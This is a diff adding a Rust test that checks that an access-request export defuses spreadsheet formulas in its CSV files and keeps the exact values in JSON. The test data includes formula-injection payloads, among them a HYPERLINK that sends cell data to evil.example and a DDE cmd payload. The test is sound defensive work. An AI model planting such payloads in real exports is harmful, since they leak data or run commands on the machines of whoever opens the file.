@@ -654,6 +654,82 @@ INSERT INTO shipment VALUES (1, 11, 'PostNL');
     assert_eq!(count(&db, "review").await, 1);
 }
 
+/// A value that a spreadsheet would run as a formula is defused in the CSV files (a leading
+/// `'`) and kept exact in access.json, the portable copy.
+async fn access_export_defuses_formulas(kind: Kind) {
+    let db = shop(kind).await;
+    exec(
+        &db,
+        "UPDATE customer SET name = '=HYPERLINK(\"http://evil.example/?d=\"&A2,\"klik\")' WHERE id = 1;
+UPDATE orders SET note = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE id = 10;
+UPDATE orders SET note = '-12.50' WHERE id = 11;
+UPDATE address SET street = '+31 Dorpsstraat', city = '-2+3' WHERE id = 1;
+UPDATE ticket SET body = '\t=1+1' WHERE id = 1",
+    )
+    .await;
+    let engine = Engine::connect(&datasets(&db), &[]).await.unwrap();
+    let report = engine
+        .access(&Subject::new("email", "jan@example.nl"))
+        .await
+        .unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    write_access_export(
+        dir.path(),
+        &report,
+        &art15_info(&register(), &report, Lang::En),
+    )
+    .unwrap();
+    let cells = |file: &str, column: &str| -> Vec<String> {
+        let mut r = csv::Reader::from_path(dir.path().join(file)).unwrap();
+        let i = r
+            .headers()
+            .unwrap()
+            .iter()
+            .position(|h| h == column)
+            .unwrap();
+        r.records()
+            .map(|x| x.unwrap().get(i).unwrap().to_string())
+            .collect()
+    };
+    assert_eq!(
+        cells("shop.customer.csv", "name"),
+        ["'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"klik\")"]
+    );
+    let mut notes = cells("shop.orders.csv", "note");
+    notes.sort();
+    assert_eq!(notes, ["'@SUM(1+1)*cmd|' /C calc'!A0", "-12.50"]);
+    assert_eq!(cells("shop.address.csv", "street"), ["'+31 Dorpsstraat"]);
+    assert_eq!(cells("shop.address.csv", "city"), ["'-2+3"]);
+    assert!(cells("shop.ticket.csv", "body").contains(&"'\t=1+1".to_string()));
+    // Numbers stay numbers, other text stays as it is.
+    assert_eq!(cells("shop.customer.csv", "email"), ["jan@example.nl"]);
+    // access.json keeps the exact values.
+    let v: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(dir.path().join("access.json")).unwrap())
+            .unwrap();
+    let table = |t: &str| {
+        v["tables"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|x| x["table"] == t)
+            .unwrap()
+            .clone()
+    };
+    assert_eq!(
+        table("customer")["rows"][0]["name"],
+        "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"klik\")"
+    );
+    assert_eq!(table("address")["rows"][0]["city"], "-2+3");
+    assert!(
+        table("ticket")["rows"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|r| r["body"] == "\t=1+1")
+    );
+}
+
 macro_rules! both {
     ($($name:ident),*) => {
         mod sqlite {
@@ -674,5 +750,6 @@ both!(
     schema_mismatch_is_a_typed_error,
     scan_proposes_a_dataset,
     requests_share_kept_connection_safely,
-    undescribed_foreign_keys_refuse_deletes
+    undescribed_foreign_keys_refuse_deletes,
+    access_export_defuses_formulas
 );
